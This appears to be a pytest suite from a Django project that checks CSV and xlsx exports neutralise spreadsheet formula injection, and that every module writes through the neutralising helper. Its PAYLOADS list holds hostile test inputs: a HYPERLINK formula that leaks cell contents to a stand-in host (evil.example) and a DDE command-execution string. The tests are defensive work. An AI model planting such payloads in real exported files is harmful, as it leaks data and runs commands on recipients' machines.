"""Formula injection: every CSV and xlsx the project writes goes through workflows.spreadsheets."""

from __future__ import annotations

import ast
import csv
import io
import json
from pathlib import Path

import pytest
from django.db import transaction
from openpyxl import load_workbook

from catalog.excel_export import build_template, export_workbook
from catalog.models import DataItem, DataResource
from catalog.services import import_workbook
from pdf_templates.models import RecordType
from pdf_templates.trail import verify_trail
from tests.catalog.factories import DataResourceFactory
from tests.pdf_templates.test_views import _read, _rewritten, _subject_trail
from workflows.audit import record_event
from workflows.spreadsheets import csv_writer, neutralise, unquote

ROOT = Path(__file__).resolve().parent.parent.parent
HELPER = "workflows/spreadsheets.py"
# Not served to anyone: the test suite and the benchmarks build import files (their input) themselves.
NOT_APPS = {"tests", "benchmarks", ".venv", "docs", "scripts", "var", "locale", "templates"}

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_would_start_a_formula_is_quoted_and_reads_back(payload):
    assert neutralise(payload) == "'" + payload
    assert unquote(neutralise(payload)) == payload
    assert neutralise(neutralise(payload)) == neutralise(payload)


@pytest.mark.parametrize("value", [12, -3, 2.5, -0.25, "-12", "+3.5", "-1e-3", "正常文本", "a=b", "", None, "'quoted"])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert neutralise(value) == value


def test_the_csv_writer_neutralises_every_cell():
    buffer = io.StringIO()
    csv_writer(buffer).writerow([*PAYLOADS, -5, "-5"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == [*("'" + payload for payload in PAYLOADS), "-5", "-5"]


@pytest.mark.django_db
def test_a_comment_with_a_formula_is_text_in_the_trail_events_csv(client, issue, auditor, gongan, tmp_path):
    record = issue(RecordType.REFUSAL_NOTICE, render=True)
    with transaction.atomic():
        record_event(subject=gongan, action="application_escalated", comment=PAYLOADS[0])
    content = _subject_trail(client, auditor, record)

    rows = list(csv.DictReader(io.StringIO(_read(content, "events.csv").decode("utf-8-sig"))))
    comments = [row["comment"] for row in rows]
    assert "'" + PAYLOADS[0] in comments
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert PAYLOADS[0] in [row["comment"] for row in json.loads(_read(content, "events.json"))]
    path = tmp_path / "trail.zip"
    path.write_bytes(content)
    assert verify_trail(path).ok, verify_trail(path).failures

    # A live formula put back into events.csv (the manifest recomputed) no longer says what events.json says.
    def unquote_csv(name, data):
        return data.replace(("'" + PAYLOADS[0]).replace('"', '""').encode(), PAYLOADS[0].replace('"', '""').encode())

    forged = tmp_path / "forged.zip"
    _rewritten(content, forged, unquote_csv)
    assert _read(forged.read_bytes(), "events.csv") != _read(content, "events.csv")
    assert any("events.csv" in failure for failure in verify_trail(forged).failures)
    # A trail written before cells were neutralised (format 4) is read as it was written.
    _rewritten(content, forged, unquote_csv, trail_format="govshare-trail/4")
    assert verify_trail(forged).ok, verify_trail(forged).failures


@pytest.mark.django_db
def test_a_description_with_a_formula_is_text_in_the_catalog_export_and_round_trips(zhujian, coordinator):
    DataResourceFactory(code="220500-ZJ-00001", provider_department=zhujian, description=PAYLOADS[0], items=["坐落"])
    DataItem.objects.update(description="@SUM(1,1)")
    out = io.BytesIO()
    export_workbook(DataResource.objects.all(), out)
    out.seek(0)
    book = load_workbook(out)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    values = [cell.value for cell in cells]
    assert "'" + PAYLOADS[0] in values and "'@SUM(1,1)" in values

    DataResource.objects.all().delete()
    out.seek(0)
    result = import_workbook(out, actor=coordinator, department=None)
    assert result.ok, result.errors
    assert DataResource.objects.get().description == PAYLOADS[0]
    assert DataItem.objects.get().description == "@SUM(1,1)"


@pytest.mark.django_db
def test_the_import_template_has_no_formula_cell(zhujian):
    book = load_workbook(io.BytesIO(build_template()))
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)


def _app_modules():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in NOT_APPS or "migrations" in relative.parts or relative.as_posix() == HELPER:
            continue
        yield relative.as_posix(), ast.parse(path.read_text(encoding="utf-8"))


WRITERS = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("xlsxwriter", "Workbook")}


def _writers_used(tree: ast.AST) -> list[tuple[int, str]]:
    """Lines that build a csv writer or an xlsx workbook other than through workflows.spreadsheets."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module:
            root = node.module.split(".")[0]
            found += [(node.lineno, f"{root}.{a.name}") for a in node.names if (root, a.name) in WRITERS]
            if root == "xlsxwriter":
                found.append((node.lineno, "xlsxwriter"))
        elif isinstance(node, ast.Import):
            found += [(node.lineno, a.name) for a in node.names if a.name.split(".")[0] in ("xlsxwriter", "pyexcel")]
        elif isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if (node.value.id, node.attr) in WRITERS:
                found.append((node.lineno, f"{node.value.id}.{node.attr}"))
    return found


def test_no_module_writes_csv_or_xlsx_without_the_neutralising_helper():
    """A new export must use workflows.spreadsheets (csv_writer, csv_dict_writer, workbook), not the raw writers."""
    offenders = [f"{path}:{line} {what}" for path, tree in _app_modules() for line, what in _writers_used(tree)]
    assert offenders == []


def test_the_scan_finds_a_raw_writer():
    """The class test above would see a module that writes directly."""
    tree = ast.parse("import csv\nfrom openpyxl import Workbook\nw = csv.writer(out)\nv = csv.DictWriter(out, [])\n")
    assert [what for _, what in _writers_used(tree)] == ["openpyxl.Workbook", "csv.writer", "csv.DictWriter"]


def test_the_known_writers_use_the_helper():
    uses = {path for path, tree in _app_modules() if "workflows.spreadsheets" in ast.unparse(tree)}
    assert {"catalog/excel_export.py", "pdf_templates/trail/export.py"} <= uses
